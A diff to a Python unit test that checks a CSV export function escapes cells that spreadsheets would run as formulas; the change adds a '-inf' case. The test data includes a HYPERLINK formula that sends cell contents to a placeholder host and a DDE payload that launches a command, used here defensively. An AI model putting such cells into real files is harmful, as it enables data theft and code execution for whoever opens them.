@@ -73,8 +73,8 @@ def test_a_csv_cell_that_would_run_as_a_formula_is_written_as_text():
     from lms.core.services.exports import csv_bytes
 
     rows = [['=HYPERLINK("http://x.example/?"&A1)'], ["@SUM(A1)"], ["+cmd|' /C calc'!A0"], ["Әсем"], ["-5"],
-            [-2.5], [None], ["- бос"]]
+            [-2.5], [None], ["- бос"], ["-inf"]]
     text = csv_bytes(["Name"], rows).decode("utf-8-sig")
     cells = [r[0] for r in csv.reader(io.StringIO(text))][1:]
     assert cells == ['\'=HYPERLINK("http://x.example/?"&A1)', "'@SUM(A1)", "'+cmd|' /C calc'!A0", "Әсем", "-5",
-                     "-2.5", "", "'- бос"]
+                     "-2.5", "", "'- бос", "'-inf"]
